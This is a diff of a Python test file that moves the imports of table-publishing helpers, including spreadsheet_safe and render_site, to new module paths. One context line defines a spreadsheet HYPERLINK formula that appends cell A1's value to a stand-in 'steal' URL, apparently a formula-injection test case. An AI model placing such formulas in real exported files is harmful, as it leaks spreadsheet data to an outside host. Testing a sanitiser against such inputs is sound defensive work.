@@ -14,8 +14,7 @@ import duckdb
 import pytest
 from conftest import document_fixtures
 
-from dagster_project.publish.quality_account import render_site
-from dagster_project.publish.tables import (
+from dagster_project.publish.document.tables import (
     Cell,
     Column,
     DataTable,
@@ -25,6 +24,7 @@ from dagster_project.publish.tables import (
     spreadsheet_safe,
     text,
 )
+from dagster_project.publish.portal.site import render_site
 
 LINK = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Open the file")'
 
